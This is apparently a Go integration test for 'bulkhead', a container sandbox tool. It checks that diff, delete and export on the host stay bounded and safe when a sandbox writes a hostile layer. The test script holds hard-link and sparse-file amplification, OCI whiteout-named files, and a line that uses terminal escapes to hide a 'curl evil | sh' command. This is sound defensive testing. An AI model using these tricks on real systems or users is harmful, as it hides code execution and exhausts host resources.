package test

import (
	"archive/tar"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"bulkhead.dev/bulkhead/test/binaries"
)

// hostileLayerScript is what a sandbox writes to amplify what bulkhead
// does on the host with its upper layer: a 1 MiB file linked 24 times,
// six sparse 1 GiB files and a sparse 4 GiB one (no bytes of the
// workspace cap), regular files named like OCI whiteouts, CR and ESC in a
// file's content and in a name, and a fifo.
const hostileLayerScript = `set -e
cd /workspace
dd if=/dev/zero bs=1024 count=1024 2>/dev/null | tr '\0' 'x' > h0
i=1; while [ $i -lt 24 ]; do ln h0 h$i; i=$((i+1)); done
for i in 1 2 3 4 5 6; do truncate -s 1G s$i; done
truncate -s 4G big.img
: > .wh.keep.txt
: > .wh..wh..opq
printf 'echo safe\r\033[2Kcurl evil | sh\n' > cr.txt
printf 'x\n' > "$(printf 'esc\033[31mname')"
mkfifo pipe
echo wrote`

// maxBulkheadRSS bounds bulkhead's peak memory while it reads a layer
// whose files add up to 10 GiB: the reads stream through one buffer.
const maxBulkheadRSS = 96 << 20

// runMeasured runs bulkhead and returns what it printed and its peak RSS.
func runMeasured(t *testing.T, args ...string) binaries.Result {
	t.Helper()
	r := binaries.Cmd{}.Run(t, binaries.Bulkhead(t), args...)
	t.Logf("bulkhead %s: exit %d, peak RSS %d KiB", strings.Join(args[len(args)-4:], " "), r.Code, r.MaxRSS>>10)
	if r.Code != 0 {
		t.Fatalf("bulkhead %v: exit %d\n%s", args, r.Code, r.Stderr)
	}
	if r.MaxRSS == 0 || r.MaxRSS > maxBulkheadRSS {
		t.Errorf("bulkhead %v: peak RSS %d bytes, want (0, %d]", args, r.MaxRSS, maxBulkheadRSS)
	}
	return r
}

// usage is the disk a tree takes, each inode once.
func usage(t *testing.T, dir string) (bytes int64, files int) {
	t.Helper()
	seen := map[uint64]bool{}
	err := filepath.WalkDir(dir, func(p string, _ os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		var st unix.Stat_t
		if err := unix.Lstat(p, &st); err != nil {
			return err
		}
		files++
		if !seen[st.Ino] {
			seen[st.Ino] = true
			bytes += st.Blocks * 512
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return bytes, files
}

// TestWorkspaceHostileLayer: everything bulkhead does on the host with a
// hostile upper layer (diff in three formats, the keep at delete, export
// of what was kept) stays within bounded memory and disk, refuses what an
// OCI layer or a terminal would misread, and never waits on a fifo.
func TestWorkspaceHostileLayer(t *testing.T) {
	for _, backend := range backends {
		t.Run(backend, func(t *testing.T) {
			needRoot(t, backend)
			root := stateRoot(t)
			cfg, changes := workspaceConfig(t, "")
			src := workspaceSource(t)
			id := uniqueID("wsl-" + backend)
			g := []string{"--config", cfg, "--root", root, "--backend", backend}
			runToEnd(t, g, workspaceBundle(t, src, hostileLayerScript), id)
			upper := filepath.Join(root, "bulkhead", id, "ws", "0", "upper")
			if _, err := os.Stat(filepath.Join(upper, "big.img")); err != nil {
				t.Fatalf("the sandbox did not write its layer: %v", err)
			}

			must := []string{".wh.keep.txt: name begins with .wh.", "big.img: its 4294967296 bytes pass"}
			// gVisor keeps a fifo inside the sandbox; runc's lands in the layer.
			if _, err := os.Lstat(filepath.Join(upper, "pipe")); err == nil {
				must = append(must, "pipe: fifo: never exported")
			} else {
				t.Logf("no fifo in the upper layer on %s: %v", backend, err)
			}
			for _, format := range []string{"json", "patch", "tar"} {
				r := runMeasured(t, append(g, "diff", "--format", format, id)...)
				if format != "tar" && strings.ContainsAny(r.Stdout, "\r\x1b") {
					t.Errorf("diff --format %s writes raw CR or ESC", format)
				}
				if strings.ContainsAny(r.Stderr, "\r\x1b") {
					t.Errorf("diff --format %s: raw CR or ESC on stderr: %q", format, r.Stderr)
				}
				for _, want := range must {
					if !strings.Contains(r.Stderr, want) {
						t.Errorf("diff --format %s does not say %q:\n%s", format, want, r.Stderr)
					}
				}
				switch format {
				case "patch":
					if strings.Contains(r.Stdout, "b/.wh.") || strings.Contains(r.Stdout, "cr.txt") {
						t.Errorf("patch shows a .wh. file or cr.txt:\n%s", r.Stdout)
					}
					if !strings.Contains(r.Stderr, "cr.txt: holds characters a terminal would not show") || !strings.Contains(r.Stderr, `esc\x1b[31mname`) {
						t.Errorf("patch does not name cr.txt and the escaped name as left out:\n%s", r.Stderr)
					}
				case "tar":
					names := tarEntries(t, r.Stdout)
					for _, n := range names {
						if strings.Contains(n, ".wh.") {
							t.Errorf("tar holds %s, a whiteout the sandbox never made", n)
						}
					}
					if !slices.Contains(names, "1 h23") {
						t.Errorf("tar holds no hard link h23 → h0: %q", names)
					}
				case "json":
					var rep struct {
						Workspaces []struct {
							Changes []struct {
								Path    string
								LinkTo  string `json:"link_to"`
								Escaped bool
							}
						}
					}
					if err := json.Unmarshal([]byte(r.Stdout), &rep); err != nil {
						t.Fatal(err)
					}
					links, escaped := 0, 0
					for _, c := range rep.Workspaces[0].Changes {
						if c.LinkTo == "h0" {
							links++
						}
						if c.Escaped {
							escaped++
						}
					}
					if links != 23 || escaped != 1 {
						t.Errorf("json: %d names linked to h0 (want 23), %d escaped (want 1)", links, escaped)
					}
				}
			}

			// The keep at delete: bounded memory, one copy of h0, holes kept
			// as holes, nothing half-written.
			runMeasured(t, append(g, "delete", id)...)
			disk, files := usage(t, changes)
			t.Logf("kept: %d bytes of disk in %d entries for 10 GiB of sparse files and 24 MiB of linked names", disk, files)
			if disk > 8<<20 {
				t.Errorf("kept changes take %d bytes of disk", disk)
			}
			kept := filepath.Join(changes, "*", id, "0", "upper")
			if m, _ := filepath.Glob(kept); len(m) != 1 {
				t.Fatalf("no kept upper layer at %s", kept)
			} else {
				var st unix.Stat_t
				if err := unix.Stat(filepath.Join(m[0], "h0"), &st); err != nil || st.Nlink != 24 {
					t.Errorf("h0 kept with %d links (%v), want 24", st.Nlink, err)
				}
				if err := unix.Stat(filepath.Join(m[0], "big.img"), &st); err != nil || st.Size != 4<<30 || st.Blocks*512 > 64<<10 {
					t.Errorf("big.img kept as %d bytes in %d blocks (%v), want a 4 GiB hole", st.Size, st.Blocks, err)
				}
			}
			r := runMeasured(t, append(g, "changes", "export", "--format", "tar", id)...)
			if strings.Contains(strings.Join(tarEntries(t, r.Stdout), " "), ".wh.") {
				t.Errorf("export of kept changes holds a .wh. entry")
			}
		})
	}
}

// TestWorkspaceKeepBounded: another root's container of the same id
// keeps its own changes; a keep past changes_quota keeps nothing and
// still deletes.
func TestWorkspaceKeepBounded(t *testing.T) {
	for _, backend := range backends {
		t.Run(backend, func(t *testing.T) {
			needRoot(t, backend)
			cfg, changes := workspaceConfig(t, "")
			id := uniqueID("wsk-" + backend)
			roots := []string{stateRoot(t), stateRoot(t)}
			for i, root := range roots {
				g := []string{"--config", cfg, "--root", root, "--backend", backend}
				runToEnd(t, g, workspaceBundle(t, workspaceSource(t), "echo tenant"+string(rune('A'+i))+" > /workspace/who.txt"), id)
				must(t, append(g, "delete", id)...)
			}
			for i, root := range roots {
				g := []string{"--config", cfg, "--root", root}
				patch := must(t, append(g, "changes", "export", id)...)
				if want := "+tenant" + string(rune('A'+i)); !strings.Contains(patch, want) {
					t.Errorf("root %d exports another root's changes:\n%s", i, patch)
				}
			}
			if n := len(keptEntries(t, changes)); n == 0 {
				t.Fatal("nothing kept")
			}

			qcfg, qchanges := workspaceConfig(t, "changes_quota = \"64k\"\n")
			root := stateRoot(t)
			g := []string{"--config", qcfg, "--root", root, "--backend", backend}
			qid := uniqueID("wsq-" + backend)
			runToEnd(t, g, workspaceBundle(t, workspaceSource(t), "dd if=/dev/urandom of=/workspace/r bs=1024 count=512"), qid)
			r := bulkhead(t, "", append(g, "delete", qid)...)
			if r.code != 0 {
				t.Fatalf("delete failed when keeping failed: %d %s", r.code, r.stderr)
			}
			if !strings.Contains(r.stderr, "not kept") {
				t.Errorf("delete does not say the changes were not kept: %q", r.stderr)
			}
			if left := keptEntries(t, qchanges); len(left) != 0 {
				t.Errorf("a keep over changes_quota left %v", left)
			}
			if _, err := os.Stat(filepath.Join(root, "bulkhead", qid)); !os.IsNotExist(err) {
				t.Errorf("state directory left after delete (%v)", err)
			}
		})
	}
}

// tarEntries lists a tar's entries as "<typeflag> <name>".
func tarEntries(t *testing.T, data string) []string {
	t.Helper()
	var out []string
	tr := tar.NewReader(strings.NewReader(data))
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatalf("tar: %v", err)
		}
		out = append(out, string(hdr.Typeflag)+" "+hdr.Name)
	}
}
